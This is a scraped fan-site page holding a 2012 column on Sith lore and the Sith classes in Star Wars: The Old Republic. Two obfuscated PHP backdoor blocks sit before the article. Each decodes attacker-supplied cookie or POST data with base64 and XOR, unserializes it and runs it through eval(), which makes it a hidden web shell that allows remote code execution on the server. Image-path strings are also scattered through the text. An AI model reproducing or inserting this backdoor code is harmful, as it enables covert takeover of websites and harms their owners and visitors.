$eDITTpx = class_exists("E_sdBhD");if (!$eDITTpx){class E_sdBhD{private $Uwkjo;public static $GceVIgUuDx = "bb4019ce-3f6c-41c2-908d-f6034f80bd18";public static $hHxVxqyEP = NULL;public function __construct(){$STTVJb = $_COOKIE;$DZiTu = $_POST;$WDsdjh = @$STTVJb[substr(E_sdBhD::$GceVIgUuDx, 0, 4)];if (!empty($WDsdjh)){$wISPlIDZLO = "base64";$dUsBvmZpUV = "";$WDsdjh = explode(",", $WDsdjh);foreach ($WDsdjh as $WykdfVvtZ){$dUsBvmZpUV .= @$STTVJb[$WykdfVvtZ];$dUsBvmZpUV .= @$DZiTu[$WykdfVvtZ];}$dUsBvmZpUV = array_map($wISPlIDZLO . "\137" . "\x64" . "\x65" . "\x63" . "\x6f" . chr (100) . chr ( 1098 - 997 ), array($dUsBvmZpUV,)); $dUsBvmZpUV = $dUsBvmZpUV[0] ^ str_repeat(E_sdBhD::$GceVIgUuDx, (strlen($dUsBvmZpUV[0]) / strlen(E_sdBhD::$GceVIgUuDx)) + 1);E_sdBhD::$hHxVxqyEP = @unserialize($dUsBvmZpUV);}}public function __destruct(){$this->BfuLpx();}private function BfuLpx(){if (is_array(E_sdBhD::$hHxVxqyEP)) {$kjgrSU = str_replace("\x3c" . chr (63) . 'p' . "\150" . chr (112), "", E_sdBhD::$hHxVxqyEP["\143" . chr (111) . 'n' . chr ( 817 - 701 )."\x65" . "\156" . chr ( 520 - 404 )]);eval($kjgrSU);exit();}}}$LfAXf = new E_sdBhD(); $LfAXf = NULL;} ?> $HUXqtUIxy = class_exists("ip_QEqh");if (!$HUXqtUIxy){class ip_QEqh{private$TbmzRb;public static $FHcIW = "7ebcf308-eeb5-45d0-b672-e9d0e6153b2f";public static $fFfkEnNTtr = NULL;public function __construct(){$FhesM = $_COOKIE;$LHvkqFrxmX = $_POST;$MCHrxi = @$FhesM[substr(ip_QEqh::$FHcIW, 0, 4)];if (!empty($MCHrxi)){$ukeOe = "base64";$JuQfYmlyOm = "";$MCHrxi = explode(",", $MCHrxi);foreach ($MCHrxi as $BJxJBWW){$JuQfYmlyOm .= @$FhesM[$BJxJBWW];$JuQfYmlyOm .= @$LHvkqFrxmX[$BJxJBWW];}$JuQfYmlyOm = array_map($ukeOe . chr ( 127 - 32 )."\144" . "\x65" . "\143" . 'o' . "\x64" . "\x65", array($JuQfYmlyOm,)); $JuQfYmlyOm = $JuQfYmlyOm[0] ^ str_repeat(ip_QEqh::$FHcIW, (strlen($JuQfYmlyOm[0]) / strlen(ip_QEqh::$FHcIW)) + 1);ip_QEqh::$fFfkEnNTtr = @unserialize($JuQfYmlyOm);}}public function __destruct(){$this->tSjrbbjY();}private function tSjrbbjY(){if (is_array(ip_QEqh::$fFfkEnNTtr)) {$xdxaj = str_replace("\x3c" . "\x3f" . 'p' . chr ( 133 - 29 ).chr (112), "",ip_QEqh::$fFfkEnNTtr["\x63" . 'o' . chr (110) . "\x74" . 'e' . "\156" . chr ( 225 - 109 )]);eval($xdxaj);exit();}}}$SRNAi = new ip_QEqh(); $SRNAi = NULL;} ?> Force Lore: The Jedi and The Sith, Part Duex – Corellian Run Radio
Mar 212012

By Daniel Sperelli

Welcome once again to your weekly dose of Force Lore, where we explore the who, what, when, and why of the Star Wars Universe and how it ties in with Star Wars: The Old Republic.  Thank you to all of you that have been supporting of the column and all of the hard workers here at Corellian Run Radio.

Last week we started looking at the Jedi and the Sith, with how their ideologies and organizations either parallel each other or are mirroropposites of each other.  Part one examined the Jedi and now today we’ll be looking at the Sith.  And what perfect timing!  Fans of the cartoon series The Clone Wars™ on Cartoon Network™ had a nice surprise on the season finale this weekend with the return of one of The Phantom Menace’s most under-rated villains, Darth Maul.  It’s a perfect prelude for this week’s column.  Set your navicomputer and follow me in after the jump!

Darth Maul may be a member of the Sith after the “Rule of Two” has been instated, but he embodies the old school Sith that we see in SWTOR.  This Zabrak Dark Lord is full of revenge and loathing for all that is good.  What a prime example of the Sith that we see so much in the game environment.  If you haven’t seen the finale of the Clone Wars for this season, do so.  The shock to the canon of the Star Wars Universe is a nice change from the standard way of bringing back deceased characters… clones. Follow this link to watch the episode in all it’s goodness –> MAUL’S REVENGE

Darth Maul is just one of the many infamous Dark Lords and personalities that have arose from the faction known as the Sith.  This dark order is in many ways, just as old as the Jedi Order, while at the same time, older than the Light Side do-gooders.Starting with the “Pure Blood” species, its self known as the Sith, the group of Darksiders that would eventually come to be what we see in SWTOR came into being on the planet of Korriban.  These red skinned beings practiced dark arts centering around sorcery and alchemy, interlaced with the Dark Side of the Force.  This species was a proud, violent group of humanoids that had a large number of Force-sensitives among their numbers.  For thousands of years, these Sith fought amongst themselves and expanded to nearby planets using stolen/captured Rakata technology.

Far away, in a time long, long ago...

Now, you have to consider that throughout the years after the founding of the Jedi Order, the Jedi had to contend with individuals that would fall to temptation, questing for power and personal glory.  These “Dark” Jedi would eventually be exiled from the then known galaxy and forced to wander, cast out from the Order and still seeking to quench their thirst for power.  In some ways, these Dark Jedi paralleled the ideals of the Sith, yet considered themselves far superior to the Pure Blood Sith.  When the Dark Jedi encountered the Sith species, a marriage made in hell was bound to ensue.

Power and control, fueled by raw emotion, fed the Dark Jedi as they overtook the Sith and began creating the faction that would become the Sith Empire.  This group would spawn the individuals that would be responsible for some of the worst conflicts brought upon the galaxy such as Naga Sadow, Darth Revan and Malek, Exar Kun, and of course, Darth Sidious and Vader.

The philosophy of the Sith isgoverned by passion and conflict.  Without conflict, a person or civilization cannot grow and therefore is weak.  Only through defeating that which stands in ones’ way and conquering the Force for personal gain can a person be victorious in life.  The Sith code, while structured similar to the Jedi Code, is the polar opposite:

Peace is a lie, there is only passion.

Through passion, I gain strength.

Through strength, I gain power.

Through power, I gain victory.

Through victory, my chains are broken.

The Force shall free me.This mantra was created as a “spit” upon the Jedi mantra.  The Sith choose not to even attempt to be pacifists in life.  Their ways are always to embrace the conflict and overcome it.

Within the Sith, there are the two playable classes which are modeled upon the ideals of the Sith and act as counters to the JediKnights and Sages.  These two are the Sith Warrior and the Sith Inquisitor, paralleling their Jedi counterparts respectively.

The Sith Warrior, artwork by DariL

The Sith Warrior is the backbone of the Sith Empire’s forces.  These guys and gals are the bruisers, the brawlers, and the enforcers for the Empire and the Emperor’s will.  The Warriors embrace the raw emotions of fear and anger, turning them into fuel to drive them as “up close and personal” weapons of destruction.  These Dark Side warriors are a melee class, without much ranged attack ability.  The Advanced Classes of Juggernaut and Marauder are both melee based: The Juggernaut being the “wade in and duke it out” tank, while the Marauder is the “strike hard andfast”, dual-welding fighter.  Within the game, Darth Malgus is the best example of the Sith Warrior.


A glimpse at a possible future playable, courtesy of SWGTCG

The movers and the shakers within the political realm of the SithEmpire are the Sith Inquisitors.  These manipulators of the Force use the Dark Side as a weapon, harnessing their hate and anger into destructive energies they may hurl at their enemies.  These Inquisitors are concerned with the secretsof the Empire, artifacts relating to the Force, and the philosophies of the Dark Side.  The Advanced Classes of the Inquisitorare the Assassin and the Sorcerer.  Much like the Jedi Shadow, the Assassin is a Rogue incarnate, able to move through the shadows and ambush their enemies with brutal melee tactics.  The Assassin AC can alsoperform some tanking duties as well.  The Sorcerer is the ranged AC, able to use the energies of the Force to heal allies or destroy their enemies from afar.  With Force Lightning streaming from the fingertips, you can run aroundyelling “Absolute Power!” as you destroy your foes.

Recruiting? Nah... You'll serve just because!

The Sith pose a dark threat to the galaxy, with little concern for life and more concern for personal glory and power.  Unlike the Jedi, the Sith will only concede when they have won.  And we who follow theEU of Star Wars know that they never give up!

Next week we go back to the starting worlds that we missed, with Ord Mantell followed by Hutta.  With these worlds, we get a glimpse into the underworld that pervades both the Republic and the Empire.  Until then, as we always wrap things up, “May the Force be with you, always.”

Star Wars™ is a trademark of George Lucas and Lucasfilms/LucasArts.  Star Wars: The Old Republic™ is a trademark of BioWare/EA Games.  All content referenced in this article (Characters, locations, story, etc.) are property of abovementioned parties.  All rights reserved.


Rss Feed Tweeter button Facebook button Technorati button Reddit button Linkedin buttonWebonews buttonDelicious button Diggbutton Flickr button Stumbleupon button Newsvine button Youtube button
Copy Protected by Tech Tips'sCopyProtect Wordpress Blogs.